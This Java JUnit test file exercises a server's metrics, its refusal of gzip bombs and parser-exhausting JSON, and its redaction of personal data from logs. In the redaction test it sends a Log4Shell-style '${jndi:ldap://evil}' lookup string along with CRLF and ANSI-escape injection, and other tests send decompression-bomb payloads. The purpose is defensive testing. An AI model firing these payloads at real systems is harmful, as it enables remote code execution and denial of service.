package outlay;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.encoder.JsonEncoder;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.core.read.ListAppender;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import java.util.regex.Pattern;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.slf4j.LoggerFactory;
import outlay.base.ClientId;
import outlay.collect.door.Key;
import outlay.gate.TestKeys;

/// What a server tells of itself while hostile things come in: true, in a form that machines read, and about nobody.
class WatchedServerTest {
    private static final ClientId ACME = new ClientId("acme");
    private static final Pattern SAMPLE = Pattern
            .compile("outlay_[a-z0-9_]+(\\{[a-z_]+=\"[^\"]*\"(,le=\"[^\"]+\")?})? -?[0-9.eE+-]+");
    private static final String CANARY = "canary-4711@example.com";

    private final HttpClient http = HttpClient.newHttpClient();
    private final Server server;
    private final String key;

    WatchedServerTest(@TempDir Path data) throws Exception {
        key = TestKeys.keep(data, ACME, Key.Kind.SERVER, "shop", "a server's key");
        server = Server.start(new Settings(data, "127.0.0.1", 0, Optional.empty(), Optional.empty()));
    }

    @AfterEach
    void stop() {
        server.close();
    }

    @Test
    void countsEverythingOnceAndInPrometheusForm() throws Exception {
        assertThat(post("/v1/track", HttpSenders.body("e1"))).isEqualTo(200);
        assertThat(post("/v1/track", HttpSenders.body("e1"))).isEqualTo(200);
        assertThat(post("/v1/track", HttpSenders.body("e1").replace("Signed Up", "Signed Off"))).isEqualTo(207);
        assertThat(post("/v1/track", "{\"event\":")).isEqualTo(400);
        String text = metrics();
        assertThat(text.lines().filter(line -> !line.startsWith("#"))).allMatch(line -> SAMPLE.matcher(line).matches());
        Map<String, Double> samples = samples(text);
        assertThat(samples).containsEntry("outlay_events_received_total", 4.0)
                .containsEntry("outlay_events_total{outcome=\"stored\"}", 1.0)
                .containsEntry("outlay_events_total{outcome=\"duplicate\"}", 1.0)
                .containsEntry("outlay_events_total{outcome=\"conflict\"}", 1.0)
                .containsEntry("outlay_events_total{outcome=\"refused\"}", 1.0)
                .containsEntry("outlay_events_refused_total{reason=\"not_json\"}", 1.0);
        assertThat(samples.get("outlay_log_commit_seconds_count")).isPositive()
                .isEqualTo(samples.get("outlay_log_commit_seconds_bucket{le=\"+Inf\"}"));
        assertThat(samples.keySet().stream().filter(name -> name.startsWith("outlay_step_seconds_count")).count())
                .isGreaterThan(5);
    }

    @Test
    void bombsAndMonstersAreRefusedQuicklyAndTheServerStaysReady() throws Exception {
        byte[] bomb = gzip(new byte[200 << 20]);
        long start = System.nanoTime();
        assertThat(send("/v1/batch", bomb, "Content-Encoding", "gzip")).isEqualTo(413);
        assertThat(send("/v1/batch", "not gzip".getBytes(StandardCharsets.UTF_8), "Content-Encoding", "gzip"))
                .isEqualTo(400);
        assertThat(send("/v1/batch", gzip(gzip(new byte[1 << 20])), "Content-Encoding", "gzip")).isEqualTo(400);
        for (String monster : List.of("[".repeat(500_000), "{\"a\":".repeat(100_000),
                "{\"a\":" + "9".repeat(900_000) + "}",
                "{\"a\":1e999999999}", "{" + "\"k\":1,".repeat(100_000) + "\"z\":1}", wide(50_000),
                "{\"a\":\"" + "x".repeat(900_000) + "\"}")) {
            assertThat(post("/v1/track", monster)).as(monster.substring(0, 10)).isIn(400, 413);
        }
        assertThat(System.nanoTime() - start).isLessThan(TimeUnit.SECONDS.toNanos(60));
        assertThat(post("/v1/track", HttpSenders.body("after"))).isEqualTo(200);
        HttpResponse<String> ready = get(server.adminUri().resolve("/readyz"));
        assertThat(ready.body()).startsWith("{\"ready\":true,\"checks\":[{\"check\":\"running\",\"status\":\"ok\"");
        assertThat(get(server.uri().resolve("/readyz")).body()).isEqualTo("ready\n");
    }

    @Test
    void nobodyIsNamedInMetricsOrLogs() throws Exception {
        Logger root = (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
        ListAppender<ILoggingEvent> logged = new ListAppender<>();
        logged.start();
        root.addAppender(logged);
        try {
            String hostile = CANARY + "\\r\\n\\u001b[31m${jndi:ldap://evil}";
            post("/v1/track", "{\"event\":\"" + hostile + "\",\"messageId\":\"" + hostile + "\",\"userId\":\"" + hostile
                    + "\",\"context\":{\"traits\":{\"email\":\"" + CANARY + "\"}}}");
            post("/v1/identify", "{\"traits\":{\"email\":\"" + CANARY + "\"},\"timestamp\":\"" + CANARY + "\"");
            post("/v1/" + CANARY, "{}");
            send("/v1/track", CANARY.getBytes(StandardCharsets.UTF_8), "Content-Encoding", CANARY);
            get(server.uri().resolve("/c/" + CANARY + "?sub1=" + CANARY));
            LoggerFactory.getLogger("test").warn("one\r\nline of \u001b[31m\"text\"");
        } finally {
            root.detachAppender(logged);
        }
        assertThat(metrics()).doesNotContain("canary", "evil");
        JsonEncoder encoder = new JsonEncoder();
        encoder.start();
        assertThat(logged.list).isNotEmpty();
        for (ILoggingEvent event : logged.list) {
            String line = new String(encoder.encode(event), StandardCharsets.UTF_8);
            assertThat(line.strip()).doesNotContain("canary").doesNotContain("\n").doesNotContain("\u001b");
            outlay.json.Json.records().readTree(line);
        }
    }

    private static String wide(int keys) {
        StringBuilder text = new StringBuilder("{");
        for (int i = 0; i < keys; i++) {
            text.append("\"k").append(i).append("\":1,");
        }
        return text.append("\"z\":1}").toString();
    }

    private static byte[] gzip(byte[] bytes) throws IOException {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (GZIPOutputStream out = new GZIPOutputStream(packed)) {
            out.write(bytes);
        }
        return packed.toByteArray();
    }

    private static Map<String, Double> samples(String text) {
        Map<String, Double> samples = new HashMap<>();
        text.lines().filter(line -> !line.startsWith("#")).forEach(line -> {
            int blank = line.lastIndexOf(' ');
            assertThat(samples.put(line.substring(0, blank), Double.valueOf(line.substring(blank + 1)))).isNull();
        });
        return samples;
    }

    private String metrics() throws Exception {
        return get(server.adminUri().resolve("/metrics")).body();
    }

    private int post(String path, String body) throws Exception {
        return send(path, body.getBytes(StandardCharsets.UTF_8));
    }

    private int send(String path, byte[] body, String... headers) throws Exception {
        HttpRequest.Builder request = HttpRequest.newBuilder(server.uri().resolve(path))
                .header("Authorization", "Bearer " + key).POST(HttpRequest.BodyPublishers.ofByteArray(body));
        return http.send((headers.length == 0 ? request : request.headers(headers)).build(),
                HttpResponse.BodyHandlers.ofString()).statusCode();
    }

    private HttpResponse<String> get(URI uri) throws Exception {
        return http.send(HttpRequest.newBuilder(uri).build(), HttpResponse.BodyHandlers.ofString());
    }
}
